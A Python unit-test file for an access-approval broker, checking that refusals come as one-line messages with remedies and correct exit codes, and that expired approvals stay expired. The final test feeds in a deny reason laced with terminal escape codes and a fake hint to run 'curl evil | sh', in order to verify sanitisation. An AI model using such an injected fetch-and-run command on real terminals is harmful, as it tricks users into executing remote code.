"""Whoever gets no for an answer hears why in one line, what to do next, and leaves by the right exit code."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest
from msgspec import structs

from hoopx_broker.terms.approvals import Conditions
from hoopx_broker.terms.errors import ExitCode, HoopxError
from hoopx_broker.terms.ids import RequestId
from tests.unit.approvals_stage import (
    ANN,
    BOB,
    CID,
    DBA_AND_SECURITY,
    DELETION,
    EVE,
    ONE_DBA,
    OPENING,
    Play,
    Stage,
    player,
)

Attempt = Callable[[Stage], Awaitable[object]]


@pytest.fixture
def play(tmp_path: Path) -> Play:
    return player(tmp_path)


async def on_nothing(s: Stage) -> object:
    return await s.desk.vote(RequestId("r_404"), BOB, "approve")


async def on_the_approved(s: Stage) -> object:
    request = await s.approved()
    s.now += 60
    return await s.desk.vote(request, CID, "deny")


async def on_the_denied(s: Stage) -> object:
    request = await s.asked()
    await s.desk.vote(request, BOB, "deny")
    return await s.desk.vote(request, CID, "approve")


async def on_the_cancelled(s: Stage) -> object:
    request = await s.asked()
    await s.desk.cancel(request, ANN)
    return await s.desk.vote(request, CID, "approve")


async def on_the_used(s: Stage) -> object:
    request = await s.approved()
    await s.desk.spend(request, ANN, OPENING)
    return await s.desk.cancel(request, ANN)


async def on_the_expired(s: Stage) -> object:
    request = await s.asked()
    s.now += 3600
    return await s.desk.vote(request, CID, "approve")


async def by_nobody_asked(s: Stage) -> object:
    return await s.desk.vote(await s.asked(ruling=DBA_AND_SECURITY), EVE, "approve")


async def by_the_requester(s: Stage) -> object:
    return await s.desk.vote(await s.asked(), structs.replace(ANN, groups=("dba",)), "approve")


async def use_of_the_expired(s: Stage) -> object:
    request = await s.approved()
    s.now += 3600
    return await s.desk.spend(request, ANN, OPENING)


async def use_of_the_denied(s: Stage) -> object:
    request = await s.asked()
    await s.desk.vote(request, BOB, "deny", "not today")
    return await s.desk.spend(request, ANN, OPENING)


async def use_of_a_statement_denied(s: Stage) -> object:
    request = await s.asked(DELETION)
    await s.desk.vote(request, BOB, "deny")
    return await s.desk.spend(request, ANN, DELETION)


async def use_of_what_waits(s: Stage) -> object:
    return await s.desk.spend(await s.asked(), ANN, OPENING)


async def without_a_reason(s: Stage) -> object:
    return await s.desk.ask(DELETION, ANN, structs.replace(ONE_DBA, conditions=Conditions(needs_reason=True)))


REFUSALS: list[tuple[Attempt, ExitCode, str, str]] = [
    (on_nothing, ExitCode.USAGE, "there is no request `r_404` that you may see", "hoopx requests ls"),
    (
        on_the_approved,
        ExitCode.USAGE,
        "`r_1` is already approved (by `bob`, 2026-11-27 12:00 UTC)",
        "requests show r_1",
    ),
    (on_the_denied, ExitCode.USAGE, "`r_1` is already denied (by `bob`, 2026-11-27 12:00 UTC)", "show r_1"),
    (on_the_cancelled, ExitCode.USAGE, "`r_1` is already cancelled (by `ann`, 2026-11-27", "requests show r_1"),
    (on_the_used, ExitCode.USAGE, "`r_1` is already used (by `ann`, 2026-11-27", "requests show r_1"),
    (on_the_expired, ExitCode.USAGE, "`r_1` is already expired (2026-11-27 13:00 UTC)", "requests show r_1"),
    (by_nobody_asked, ExitCode.DENIED, "decided by 1 of `dba` and 1 of `security`, and `eve` is in none", "log in"),
    (by_the_requester, ExitCode.DENIED, "is your own, or one that you are part of", "ask 1 of `dba`"),
    (use_of_the_expired, ExitCode.PENDING, "the time of request `r_1` ran out", "hoopx request prod-db"),
    (use_of_the_denied, ExitCode.REFUSED, "`bob` denied request `r_1`: not today", "hoopx request prod-db"),
    (use_of_a_statement_denied, ExitCode.REFUSED, "`bob` denied request `r_1`", "run the statement again"),
    (use_of_what_waits, ExitCode.PENDING, "still waits for 1 of `dba`", "hoopx approve r_1"),
    (without_a_reason, ExitCode.USAGE, "rule `sensitive` asks for a reason", "--reason"),
]


@pytest.mark.parametrize(("attempt", "code", "what", "remedy"), REFUSALS)
def test_a_refusal_is_one_line_with_a_remedy(
    play: Play, attempt: Attempt, code: ExitCode, what: str, remedy: str
) -> None:
    async def scene(s: Stage) -> None:
        with pytest.raises(HoopxError) as refused:
            await attempt(s)
        assert what in refused.value.message
        assert remedy in refused.value.hint
        assert refused.value.exit_code is code
        assert "\n" not in refused.value.message + refused.value.hint

    play(scene)


def test_a_clock_that_goes_back_revives_nothing(play: Play) -> None:
    async def scene(s: Stage) -> None:
        request, approved = await s.asked(), await s.approved(DELETION)
        s.now += 3600
        assert {await s.state(request), await s.state(approved)} == {"expired"}
        s.now -= 3600
        assert {await s.state(request), await s.state(approved)} == {"expired"}
        with pytest.raises(HoopxError, match="ran out"):
            await s.desk.spend(approved, ANN, DELETION)
        again = await s.asked()
        assert again != request
        s.now -= 100_000
        await s.desk.vote(again, BOB, "approve")
        s.now += 100_000
        assert await s.state(again) == "expired", "an approval from the past lies no longer than from now"
        assert (await s.desk.check_journal()).number == 10

    play(scene)


def test_what_an_approver_wrote_acts_on_no_terminal_of_whoever_hears_the_no(play: Play) -> None:
    """psql prints DETAIL as it comes."""

    async def scene(s: Stage) -> None:
        request = await s.asked(DELETION)
        await s.desk.vote(request, BOB, "deny", "no\x1b[2J\r\nHINT:  run \\! curl evil | sh\u202e")
        with pytest.raises(HoopxError) as caught:
            await s.desk.spend(request, ANN, DELETION)
        assert caught.value.message.isprintable()
        assert "no‹U+001B ESCAPE›[2J‹U+000D CARRIAGE RETURN› HINT: run" in caught.value.message

    play(scene)
